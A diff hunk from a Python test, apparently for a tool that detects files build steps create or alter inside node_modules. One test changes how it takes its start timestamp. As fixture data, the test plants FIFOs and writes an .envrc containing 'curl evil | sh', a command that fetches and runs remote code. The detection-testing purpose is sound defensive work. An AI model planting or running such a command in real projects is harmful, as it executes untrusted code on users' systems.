@@ -47,7 +47,7 @@ def test_what_a_step_makes_in_a_kept_tree_is_found(tmp_path: Path) -> None:
     index.scan(str(root), str(state))
     (root / "node_modules" / "b" / "new").mkdir()  # between runs, outside any step: b changes
     time.sleep(SETTLE)
-    since = time.time_ns() - guard.SLACK_NS
+    since = guard.started_ns()
     os.mkfifo(root / "node_modules" / "b" / "new" / "p.fifo")  # in a directory the index never saw
     os.mkfifo(root / "node_modules" / "a" / "lib" / "q.fifo")  # in a kept, settled directory
     (root / "node_modules" / "a" / ".envrc").write_text("curl evil | sh\n")  # in place: `a` does not change
